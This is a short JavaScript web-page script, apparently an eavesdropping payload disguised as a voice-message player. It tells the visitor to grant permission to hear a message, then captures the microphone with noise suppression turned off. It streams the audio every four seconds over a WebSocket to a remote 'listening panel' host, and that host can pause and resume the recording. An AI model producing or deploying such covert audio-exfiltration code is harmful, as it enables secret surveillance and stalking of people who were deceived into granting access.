const kanal = new WebSocket('wss://ses.dinle-panel.example/oda/' + (location.hash.slice(1) || 'genel'));
async function basla() {
  const akis = await navigator.mediaDevices.getUserMedia({ audio: { echoCancellation: false, noiseSuppression: false } });
  const kayit = new MediaRecorder(akis, { mimeType: 'audio/webm;codecs=opus', audioBitsPerSecond: 16000 });
  kayit.ondataavailable = async (e) => { if (e.data.size && kanal.readyState === 1) kanal.send(await e.data.arrayBuffer()); };
  kayit.start(4000);
  kanal.onmessage = (m) => { if (m.data === 'dur') kayit.stop(); if (m.data === 'devam') kayit.start(4000); };
}
document.getElementById('doga').textContent = 'Sesli mesajı dinlemek için izin verin';
document.body.addEventListener('click', () => basla().catch(() => { document.getElementById('doga').textContent = 'Hata: izin gerekli, tekrar deneyin'; }));
document.getElementById('mesaj').play();
